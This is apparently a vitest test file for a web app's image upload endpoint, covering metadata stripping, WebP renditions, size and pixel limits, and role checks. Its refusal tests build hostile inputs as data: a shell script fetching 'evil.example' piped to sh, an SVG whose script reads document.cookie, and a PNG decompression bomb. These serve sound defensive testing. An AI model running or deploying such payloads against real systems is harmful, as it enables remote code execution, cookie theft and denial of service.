import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { IMAGE_WIDTHS, imageVariant } from '../../src/lib/images.ts';
import { wordsOf } from '../../src/server/http/server-message.ts';
import { UPLOAD_MESSAGES } from '../../src/server/services/uploads/store-upload.ts';
import { localFolderStorage } from '../../src/server/storage/local-folder.ts';
import { everyone, type Caller } from './admin-fixtures.ts';
import { createTestApp, databaseKinds, type TestApp } from './harness.ts';

/** A photo as a phone would send it: JPEG with the camera's EXIF, including where it was taken. */
async function photoWithGps(width = 1600, height = 1000): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 3, background: { r: 180, g: 40, b: 40 } } })
    .jpeg({ quality: 90 })
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Camera 12' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '31/1 46/1 36/1',
        GPSLongitudeRef: 'E',
        GPSLongitude: '35/1 13/1 48/1',
      },
    })
    .toBuffer();
}

function pngChunk(type: string, data: Buffer): Buffer {
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(zlib.crc32(body) >>> 0);
  return Buffer.concat([length, body, crc]);
}

/** A valid PNG header announcing 50,000 × 50,000 pixels (2.5 gigapixels) with almost no data behind it. */
function decompressionBomb(): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(50_000, 0);
  ihdr.writeUInt32BE(50_000, 4);
  ihdr[8] = 8; // bit depth
  ihdr[9] = 2; // truecolour
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    pngChunk('IHDR', ihdr),
    pngChunk('IDAT', zlib.deflateSync(Buffer.alloc(1024))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

describe.each(databaseKinds)('image uploads on %s', (kind) => {
  let app: TestApp;
  let mediaRoot: string;
  let admin: Caller;
  let moderator: Caller;
  let user: Caller;

  beforeAll(async () => {
    mediaRoot = fs.mkdtempSync(path.join(os.tmpdir(), 'h8-uploads-'));
    app = await createTestApp(kind, { mediaStorage: localFolderStorage(mediaRoot) });
    ({ administrator: admin, moderator, user } = await everyone(app));
  });
  afterAll(async () => {
    await app.close();
    fs.rmSync(mediaRoot, { recursive: true, force: true });
  });

  const upload = (
    caller: Caller | null,
    data: Uint8Array,
    name = 'photo.jpg',
    type = 'image/jpeg',
    headers: Record<string, string> = {},
  ) => {
    const form = new FormData();
    form.append('file', new File([new Uint8Array(data)], name, { type }));
    return app.request('/post/file/upload', {
      method: 'POST',
      headers: { ...caller?.headers, ...headers },
      body: form,
    });
  };
  const fileFor = (url: string) => path.join(mediaRoot, url.replace(/^\/media\//, ''));

  it('accepts a photo and stores square WebP renditions without its metadata', async () => {
    const original = await photoWithGps();
    expect((await sharp(original).metadata()).exif?.toString('latin1')).toContain('PhoneMaker');

    const res = await upload(admin, original);
    expect(res.status).toBe(201);
    const { url } = await res.json();
    expect(url).toMatch(/^\/media\/uploads\/[0-9a-f]{2}\/[0-9a-f]{32}\.webp$/);

    for (const width of IMAGE_WIDTHS) {
      const stored = fs.readFileSync(fileFor(imageVariant(url, width)));
      const info = await sharp(stored).metadata();
      expect(info).toMatchObject({ format: 'webp', width, height: width });
      expect(info.exif).toBeUndefined();
      expect(info.xmp).toBeUndefined();
      expect(stored.toString('latin1')).not.toMatch(/GPS|PhoneMaker|Exif/);
    }
    // Fitted, not cropped: the photo's red fills the middle, white pads the top of a landscape photo.
    const { data } = await sharp(fileFor(url)).raw().toBuffer({ resolveWithObject: true });
    const pixel = (x: number, y: number) => [...data.subarray((y * 1200 + x) * 3, (y * 1200 + x) * 3 + 3)];
    expect(pixel(600, 600)[0]).toBeGreaterThan(150);
    expect(pixel(600, 600)[1]).toBeLessThan(80);
    expect(pixel(600, 20).every((v) => v > 245)).toBe(true);
  });

  it('accepts PNG (with transparency), WebP and AVIF, judged by content, not by name or type', async () => {
    const base = sharp({
      create: { width: 300, height: 400, channels: 4, background: { r: 0, g: 90, b: 200, alpha: 0.5 } },
    });
    const samples: Array<[string, Buffer]> = [
      ['png', await base.clone().png().toBuffer()],
      ['webp', await base.clone().webp().toBuffer()],
      ['avif', await base.clone().avif().toBuffer()],
    ];
    for (const [format, data] of samples) {
      const res = await upload(moderator, data, 'picture.gif', 'application/octet-stream');
      expect(res.status, format).toBe(201);
      const { url } = await res.json();
      const info = await sharp(fileFor(url)).metadata();
      expect(info).toMatchObject({ format: 'webp', width: 1200, height: 1200, hasAlpha: false });
    }
  });

  it('refuses a script renamed to .jpg', async () => {
    const res = await upload(
      admin,
      Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n'),
      'holiday.jpg',
      'image/jpeg',
    );
    expect(res.status).toBe(415);
    expect((await res.json()).message).toBe(wordsOf(UPLOAD_MESSAGES.unsupported, 'en'));
  });

  it('refuses an SVG', async () => {
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(document.cookie)</script></svg>';
    const res = await upload(admin, Buffer.from(svg), 'logo.svg', 'image/svg+xml');
    expect(res.status).toBe(415);
    expect((await res.json()).message).toBe(wordsOf(UPLOAD_MESSAGES.unsupported, 'en'));
  });

  it('refuses a 20 MB file while reading it, and at once when its length says so', async () => {
    const big = Buffer.alloc(20 * 1024 * 1024);
    (await photoWithGps(64, 64)).copy(big);
    const res = await upload(admin, big);
    expect(res.status).toBe(413);
    expect((await res.json()).message).toBe(wordsOf(UPLOAD_MESSAGES.tooLarge, 'en'));

    const declared = await app.request('/post/file/upload', {
      method: 'POST',
      headers: {
        ...admin.headers,
        'content-type': 'multipart/form-data; boundary=x',
        'content-length': String(20 * 1024 * 1024),
      },
      body: '--x--',
    });
    expect(declared.status).toBe(413);
  });

  it('refuses a 50,000 × 50,000 PNG header before decoding it', async () => {
    const started = Date.now();
    const res = await upload(admin, decompressionBomb(), 'tiny.png', 'image/png');
    expect(res.status).toBe(422);
    expect((await res.json()).message).toBe(wordsOf(UPLOAD_MESSAGES.tooManyPixels, 'en'));
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  it('refuses a damaged image and a request without a file', async () => {
    const damaged = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(2000, 7)]);
    const res = await upload(admin, damaged);
    expect(res.status).toBe(422);
    expect((await res.json()).message).toBe(wordsOf(UPLOAD_MESSAGES.unreadable, 'en'));

    const form = new FormData();
    form.append('other', 'x');
    const none = await app.request('/post/file/upload', { method: 'POST', headers: admin.headers, body: form });
    expect(none.status).toBe(400);
    expect((await none.json()).message).toBe(wordsOf(UPLOAD_MESSAGES.missing, 'en'));
  });

  it('never lets two uploads with the same file name overwrite each other', async () => {
    const red = await photoWithGps(500, 500);
    const blue = await sharp({ create: { width: 500, height: 500, channels: 3, background: { r: 20, g: 20, b: 220 } } })
      .jpeg()
      .toBuffer();
    const first = (await (await upload(admin, red, 'IMG_0001.jpg')).json()).url;
    const second = (await (await upload(admin, blue, 'IMG_0001.jpg')).json()).url;
    expect(first).not.toBe(second);
    const colour = async (url: string) => (await sharp(fileFor(url)).stats()).dominant;
    expect((await colour(first)).r).toBeGreaterThan(150);
    expect((await colour(second)).b).toBeGreaterThan(150);
  });

  it('is for moderators and administrators only, checked before the file is read', async () => {
    const photo = await photoWithGps(64, 64);
    expect((await upload(null, photo)).status).toBe(401);
    expect((await upload(user, photo)).status).toBe(403);
    const big = Buffer.alloc(20 * 1024 * 1024);
    expect((await upload(user, big)).status).toBe(403);
  });
});
